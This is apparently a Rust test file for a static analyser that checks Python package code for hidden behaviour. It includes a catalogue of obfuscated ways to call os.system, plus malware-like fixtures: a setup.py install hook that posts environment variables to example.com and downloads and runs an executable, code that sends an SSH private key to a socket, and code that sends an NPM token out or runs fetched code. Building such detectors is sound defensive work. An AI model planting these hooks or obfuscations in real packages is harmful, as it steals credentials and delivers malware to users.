//! Python source to behaviours: what is folded, undone and followed.
#![allow(clippy::unwrap_used, reason = "a test may fail")]

use lazaret_code::{Catalogue, Limits, NoModules, Source, analyse, ir::Language};
use lazaret_content::Content;
use lazaret_model::{Behaviour, Phase};

fn behaviours_in(phase: Phase, text: &str) -> Vec<Behaviour> {
    let catalogue = Catalogue::load(&Content::shipped()).unwrap();
    let source = Source {
        path: "setup.py",
        text: text.as_bytes(),
        language: Language::Python,
        phase,
    };
    analyse(&source, &NoModules, &catalogue, &Limits::default()).behaviours
}

/// One line per behaviour: phase, action, object, target, then flows and
/// layers where there are any.
fn told(text: &str) -> String {
    behaviours_in(Phase::Import, text)
        .iter()
        .map(|b| {
            let mut line = format!("{:?} {:?} {:?} {}", b.phase, b.action, b.object, b.target);
            if !b.flows.is_empty() {
                line += &format!(" <- {:?}", b.flows);
            }
            if !b.layers.is_empty() {
                line += &format!(" through {}", b.layers.join(", "));
            }
            line + "\n"
        })
        .collect()
}

/// The commands that are started by `api`, which the text hides in some way.
fn commands(text: &str) -> Vec<String> {
    behaviours_in(Phase::Import, text)
        .into_iter()
        .filter(|b| b.api == "os.system")
        .map(|b| b.target)
        .collect()
}

#[test]
fn every_way_of_hiding_a_command_is_undone() {
    for text in [
        "import os\nos.system('who' + 'ami')",
        "import os as o\nf = o.system\nf('whoami')",
        "from os import system as s\ns('imaohw'[::-1])",
        "from os import *\nsystem('whoami')",
        "__import__('os').system('whoami')",
        "getattr(__import__('so'[::-1]), 'sys' + 'tem')('whoami')",
        "import importlib\nimportlib.import_module('os').system('whoami')",
        "import os, base64\nos.system(base64.b64decode('d2hvYW1p').decode())",
        "import os\nos.system(bytes.fromhex('77686f616d69').decode())",
        "import os\nos.system(''.join(chr(c) for c in [119, 104, 111, 97, 109, 105]))",
        "import os\nos.system(''.join(map(chr, [119, 104, 111, 97, 109, 105])))",
        "import os\nos.system('%s%s' % ('who', 'ami'))",
        "import os\nos.system('{}{x}'.format('who', x='ami'))",
        "import os\na = 'who'\nos.system(f'{a}ami')",
        "import os, codecs\nos.system(codecs.decode('jubnzv', 'rot13'))",
        "import os\nos.system(bytes([c ^ 7 for c in b'pohfjn']).decode())",
        "import os\nos.system('wXhXoXaXmXi'.replace('X', ''))",
        "import os\ndef x(s, k):\n    out = ''\n    for i, c in enumerate(s):\n        out += chr(ord(c) ^ k)\n    return out\nos.system(x('pohfjn', 7))",
        "exec(\"import os\\nos.system('whoami')\")",
        "eval(compile(\"__import__('os').system('whoami')\", '', 'eval'))",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2zi/WK64sLknN1VAvz8hPzM1U1wQAqCAKsg==')))",
        "import gzip, base64\nexec(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8vMLcgvKlHIL7bOL9YrriwuSc3VUC/PyE/MzVTXBADQADtxHQAAAA==')))",
        "import lzma, base64\nexec(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAcaW1wb3J0IG9zO29zLnN5c3RlbSgnd2hvYW1pJykAAAAA/Ap3bL6CU1UAATUdRBux4R+2830BAAAAAARZWg==')))",
        "import bz2, base64\nexec(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWW4q7KUAAAWZgEDhAAgiYtygIAAxTTIxMTEKBoMmZIFyyCj6Kdd1gCONWTINvi7kinChINxV2Uo=')))",
        "import base64\nexec(base64.b85decode('X>D+Ca&#bXb31QyE^~QvbY*QQCwFLXVQpzADF').decode())",
        "import base64\nexec(base64.b32decode('NFWXA33SOQQG64Z3N5ZS443ZON2GK3JIE53WQ33BNVUSOKI='))",
        "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'==gsKACqAQw1U1MzPh8zvAV1NnkLs46KW/iz2+CyRpyLI3CzLzJe'))",
        "from cryptography.fernet import Fernet\nexec(Fernet(b'AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=').decrypt(b'gAAAAAAAAAAAAAECAwQFBgcICQoLDA0ODy8udWezRidrO4ZjC4LHSt2Xil7hyG8W4yem9nqAvDXPAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='))",
        "globals()['__builtins__'].exec(\"import os;os.system('whoami')\")",
        "class A:\n    def __init__(self):\n        self.c = 'whoami'\n    def go(self):\n        import os\n        os.system(self.c)\nA().go()",
        "import os\nd = {'k': ['a', 'whoami']}\nos.system(d['k'][-1])",
        "import os\n(lambda c: os.system(c))('whoami')",
        "exec 'import os; os.system(\"whoami\")'\nprint 'x'",
    ] {
        assert_eq!(commands(text), ["whoami"], "{text}");
    }
}

#[test]
fn an_install_hook_that_steals_and_downloads() {
    insta::assert_snapshot!(told(
        r#"
from setuptools import setup
from setuptools.command.install import install
import os, socket, requests, subprocess

class Hook(install):
    def run(self):
        install.run(self)
        requests.post("https://example.com/" + socket.gethostname(), json=dict(os.environ))
        path = os.path.join(os.getenv("TEMP"), "a.exe")
        open(path, "wb").write(requests.get("https://example.com/a.exe").content)
        subprocess.Popen([path], creationflags=0x08000000)

setup(name="x", cmdclass={"install": Hook})
"#
    ));
}

#[test]
fn a_secret_that_goes_to_a_socket() {
    insta::assert_snapshot!(told(
        r#"
import os, socket
from pathlib import Path
key = (Path.home() / ".ssh" / "id_rsa").read_text()
s = socket.socket()
s.connect(("192.0.2.1", 4444))
s.send(key.encode())
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("x")
"#
    ));
}

#[test]
fn code_from_the_network_is_told_from_code_that_is_known() {
    insta::assert_snapshot!(told(
        r#"
import urllib.request
exec(urllib.request.urlopen("https://example.com/x.py").read())
def later(url):
    import os
    token = os.environ["NPM_TOKEN"]
    urllib.request.urlopen(url, data=token.encode())
"#
    ));
}

#[test]
fn open_conditions_take_both_ways() {
    let text = "import os, sys\nif sys.platform == 'win32':\n    c = 'a'\nelse:\n    c = 'b'\nos.system(c)";
    assert_eq!(commands(text), ["a", "b"]);
}

#[test]
fn a_known_exception_goes_to_its_handler() {
    let text =
        "import os\ntry:\n    int('x')\n    os.system('a')\nexcept ValueError:\n    os.system('b')";
    assert_eq!(commands(text), ["b"]);
}

#[test]
fn quiet_code_is_not_parsed() {
    let catalogue = Catalogue::load(&Content::shipped()).unwrap();
    let quiet = b"import os\ndef add(a, b):\n    return os.path.join(a, b)\n";
    assert!(!catalogue.worth_parsing(Language::Python, quiet));
    let loud = b"import os\nos.system('x')\n";
    assert!(catalogue.worth_parsing(Language::Python, loud));
}
